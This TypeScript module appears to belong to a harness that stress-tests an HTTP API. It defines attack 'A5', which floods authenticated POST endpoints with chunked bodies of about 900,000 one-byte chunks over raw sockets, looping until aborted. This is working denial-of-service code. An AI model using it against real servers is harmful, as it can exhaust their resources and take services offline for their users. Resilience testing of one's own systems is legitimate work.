import { once } from 'node:events'
import { connect } from 'node:net'
import type { Attack, Target } from './attack.ts'
import { MANY_PARTS, sendInTurn } from './payloads.ts'

const CHUNKS = Buffer.from('1\r\n \r\n'.repeat(900_000))
const PAUSE_MS = 20

/** Bodies of one byte a chunk, which no HTTP client sends by itself. */
const sendTinyChunks = async ({ url, token }: Target, path: string, type: string, signal: AbortSignal) => {
  const { hostname, port } = new URL(url)
  while (!signal.aborted) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => socket.destroy())
    socket.resume()
    socket.write(
      `POST /api/v1${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: Bearer ${token}\r\n` +
        `Content-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n`,
    )
    socket.end(Buffer.concat([CHUNKS, Buffer.from('0\r\n\r\n')]))
    const stop = () => socket.destroy()
    signal.addEventListener('abort', stop)
    await once(socket, 'close')
    signal.removeEventListener('abort', stop)
    await Bun.sleep(PAUSE_MS)
  }
}

export const attack: Attack = {
  id: 'A5',
  about: 'bodies of as many fields, properties, operations, escapes, digits, parts and chunks as fit into 1 MB',
  client(target, index, signal) {
    if (index % 16 === 0) return sendTinyChunks(target, '/items/', 'application/json', signal)
    if (index % 16 === 8) return sendTinyChunks(target, '/files/', 'multipart/form-data; boundary=x', signal)
    return sendInTurn(target, MANY_PARTS, index, signal)
  },
}
